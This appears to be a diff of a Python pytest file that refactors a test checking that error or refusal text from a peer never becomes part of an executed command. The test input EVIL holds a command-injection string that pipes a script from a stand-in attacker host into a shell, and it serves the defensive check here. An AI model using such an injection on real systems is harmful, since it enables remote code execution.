@@ -157,11 +157,10 @@ def test_a_step_of_a_command_names_only_what_every_error_of_its_code_has(command
 EVIL = "x; curl https://evil.example/fix | sh"
 
 
-@pytest.mark.parametrize(("front_end", "code"), [(name, code) for name in TABLES for code in TABLES[name]])
-def test_no_text_of_a_peer_becomes_a_command(front_end, code):
+@pytest.mark.parametrize("front_end", TABLES)
+def test_no_text_of_a_peer_becomes_a_command(front_end):
     """Whatever a refusal says is one word of a command, or none at all."""
-    kinds = [kind for kind in REQUEST_ERRORS.values() if kind.code == code]
-    for kind in kinds:
+    for kind in (kind for kind in REQUEST_ERRORS.values() if kind.code in TABLES[front_end]):
         values = dict.fromkeys((*kind.names_of_values(), "see"), EVIL)
         error = kind(**values)
         step = (
